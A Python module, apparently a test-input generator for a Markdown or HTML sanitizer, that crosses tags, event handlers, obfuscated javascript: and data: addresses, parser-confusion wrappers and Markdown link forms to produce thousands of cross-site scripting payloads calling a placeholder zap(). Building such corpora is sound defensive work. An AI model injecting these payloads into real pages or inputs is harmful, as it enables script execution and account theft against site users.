"""Texts that try to run ``zap()`` in a browser, made by crossing what such texts consist of.

Elements, attributes, events, addresses, their disguises, and the ways of Markdown to carry them.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

CALL = "zap()"
_TAGS = (
    *("a", "audio", "b", "body", "button", "details", "div", "embed", "form", "iframe", "img"),
    *("input", "isindex", "marquee", "math", "object", "p", "select", "svg", "table", "textarea"),
    *("video", "x", "xss-x"),
)
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "ONBEGIN")
_LINKING = (
    *(("a", "href"), ("iframe", "src"), ("form", "action"), ("button", "formaction")),
    *(("embed", "src"), ("object", "data"), ("img", "src"), ("svg/a", "xlink:href")),
    *(("math", "href"), ("base", "href"), ("link rel=stylesheet", "href"), ("video", "poster")),
    *(("body", "background"), ("input type=image", "src"), ("area", "href"), ("iframe", "srcdoc")),
)
ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"\x01javascript:{CALL}",
    f" javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A&#x61vascript:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"java\0script:{CALL}",
    f"javascript://x.example/%0a{CALL}",
    f"javascript\\:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:text/html;base64,PHNjcmlwdD56YXAoKTwvc2NyaXB0Pg==#{CALL}",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
)
_SPACES = (" ", "/", "\n", "\t", "\x0c", " \0", "//")
_AROUND = (
    "{}",
    "<svg>{}</svg>",
    "<math><mtext>{}</mtext></math>",
    "<noscript><p title='</noscript>{}'>",
    "<template>{}</template>",
    "<style>{}</style>",
    "<title>{}</title>",
    "<textarea>{}</textarea>",
    "<svg><style><!--</style>{}-->",
    "<math><mtext><table><mglyph><style><!--</style>{}",
    "<svg><desc></svg>{}",
    "<!--><p>{}-->",
    "<![CDATA[>{}]]>",
    "<?x {}?>",
    "`</code>{}`",
    "```\n</pre>{}\n```",
    "    </pre>{}",
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "# {}",
    "*{}*",
    "&lt;{}",
    "[{}](x)",
    "![{}](x)",
    "<a title='{}'>",
    "\ufdd0{}",
)
_CARRIERS = (
    "[a]({})",
    "[a](<{}>)",
    '[a]({} "t")',
    "[a][r]\n\n[r]: {}",
    "[a][r]\n\n[r]: <{}>",
    "![a]({})",
    "![a][r]\n\n[r]: {}",
    "<{}>",
    '[a](x "\'><img src=x onerror={}>")',
    "[a](x'onclick={}')",
)


def _elements() -> Iterator[str]:
    for tag, event in itertools.product(_TAGS, _EVENTS):
        yield f"<{tag} {event}={CALL} autofocus tabindex=1 src=x>"
    for (tag, attribute), address in itertools.product(_LINKING, ADDRESSES):
        yield f'<{tag} {attribute}="{address}">a'
        yield f"<{tag} {attribute}={address}>"
    for space, quote in itertools.product(_SPACES, ('"', "'", "", "`")):
        yield f"<img{space}src=x{space}onerror={quote}{CALL}{quote}{space}>"
        yield f"<script{space}>{CALL}</script{space}>"
        yield f"<a style={quote}background:url(javascript:{CALL}){quote}{space}href=x>"


def payloads() -> list[str]:
    """Some thousands, always the same ones."""
    plain = list(dict.fromkeys(_elements()))
    few = [f"<img src=x onerror={CALL}>", f"<script>{CALL}</script>", f"<svg/onload={CALL}>"]
    around = [form.format(text) for form in _AROUND for text in (*few, *plain[::9])]
    carried = [form.format(address) for form in _CARRIERS for address in ADDRESSES]
    return list(dict.fromkeys([*plain, *around, *carried]))


def lines() -> list[str]:
    """Texts of one line that get out of the place where one value of the front matter is shown."""
    endings = ('"', "'", "", "</title>", "</script>", "-->", "]]>", "\\", "`", "\\u0022", "*/")
    active = (
        f"><script>{CALL}</script>",
        f"><img src=x onerror={CALL}>",
        f" onmouseover={CALL} x=",
        f";{CALL};//",
    )
    made = [f"{ending}{text}" for ending in endings for text in active]
    return [*made, *(address for address in ADDRESSES if address.isprintable())]
